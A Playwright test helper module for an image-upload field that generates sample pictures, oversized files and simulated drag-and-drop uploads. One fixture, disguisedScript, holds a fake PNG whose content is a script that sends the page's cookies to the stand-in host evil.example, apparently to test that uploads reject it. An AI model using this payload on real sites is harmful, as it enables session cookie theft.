import { expect } from '@playwright/test';
import type { Locator, Page } from '@playwright/test';
import sharp from 'sharp';

/** A file as the journeys hand it to the browser. */
export type UploadFile = { name: string; mimeType: string; buffer: Buffer };

/** A real picture: a flat colour with a stripe, so every file differs. */
export async function picture(
  name: string,
  hue: number,
  format: 'jpeg' | 'png' | 'webp' = 'jpeg'
): Promise<UploadFile> {
  const base = sharp({
    create: { width: 960, height: 640, channels: 3, background: `hsl(${hue}, 55%, 50%)` },
  }).composite([
    {
      input: { create: { width: 960, height: 80, channels: 3, background: '#ffffff' } },
      top: 280,
      left: 0,
    },
  ]);
  return { name, mimeType: `image/${format}`, buffer: await base.toFormat(format).toBuffer() };
}

/** A file whose name and declared type say PNG but whose bytes are a script. */
export const disguisedScript = (name: string): UploadFile => ({
  name,
  mimeType: 'image/png',
  buffer: Buffer.from('<script>document.location="https://evil.example/?"+document.cookie</script>\n'),
});

/** A JPEG start padded past the 5 MB limit. */
export async function oversized(name: string, bytes: number): Promise<UploadFile> {
  const start = (await picture(name, 10)).buffer;
  const buffer = Buffer.alloc(bytes);
  start.copy(buffer);
  return { name, mimeType: 'image/jpeg', buffer };
}

/** The drag-and-drop image field (Ark UI FileUpload) of a form or dialog, found by its label. */
export class UploadField {
  readonly input: Locator;
  readonly dropzone: Locator;
  readonly images: Locator;
  readonly rejections: Locator;

  constructor(
    readonly page: Page,
    readonly label: string,
    scope: Page | Locator = page
  ) {
    this.input = scope.getByLabel(`Archivos de ${label}`, { exact: true });
    this.dropzone = scope.getByLabel('Zona para soltar archivos');
    this.images = scope.getByRole('list', { name: `${label} agregadas` }).getByRole('listitem');
    this.rejections = scope.getByRole('alert', { name: 'Archivos rechazados' });
  }

  /** Drags files from the desktop onto the drop zone, as a person would. */
  async drop(files: UploadFile[]): Promise<void> {
    const payload = files.map((f) => ({ name: f.name, type: f.mimeType, data: f.buffer.toString('base64') }));
    const transfer = await this.page.evaluateHandle((list) => {
      // A drag from the desktop gives every item a file-system entry; a DataTransfer built in the page has none,
      // so lend its items the entry the browser would have given them.
      const proto = DataTransferItem.prototype as DataTransferItem & { __entryShim?: boolean };
      if (!proto.__entryShim) {
        const original = proto.webkitGetAsEntry;
        proto.webkitGetAsEntry = function (this: DataTransferItem) {
          const entry = original.call(this);
          const file = entry ? null : this.getAsFile();
          return (
            entry ??
            (file ? ({ isFile: true, isDirectory: false, name: file.name } as FileSystemEntry) : null)
          );
        };
        proto.__entryShim = true;
      }
      const dt = new DataTransfer();
      for (const f of list) {
        const bytes = Uint8Array.from(atob(f.data), (c) => c.charCodeAt(0));
        dt.items.add(new File([bytes], f.name, { type: f.type }));
      }
      return dt;
    }, payload);
    await this.dropzone.dispatchEvent('dragenter', { dataTransfer: transfer });
    await this.dropzone.dispatchEvent('dragover', { dataTransfer: transfer });
    await this.dropzone.dispatchEvent('drop', { dataTransfer: transfer });
  }

  /** Picks files with the file dialog. */
  async choose(files: UploadFile[]): Promise<void> {
    await this.input.setInputFiles(files);
  }

  /** The progress entry of one file. */
  row(name: string): Locator {
    return this.page.getByRole('listitem', { name: `Subida de ${name}` });
  }

  progress(name: string): Locator {
    return this.row(name).getByRole('progressbar', { name: `Progreso de ${name}` });
  }

  async expectImages(count: number): Promise<void> {
    await expect(this.images).toHaveCount(count, { timeout: 30_000 });
  }
}

/** Whether an <img> really loaded (a broken image has no natural width). */
export const loaded = (img: Locator) => img.evaluate((el) => (el as HTMLImageElement).naturalWidth > 0);
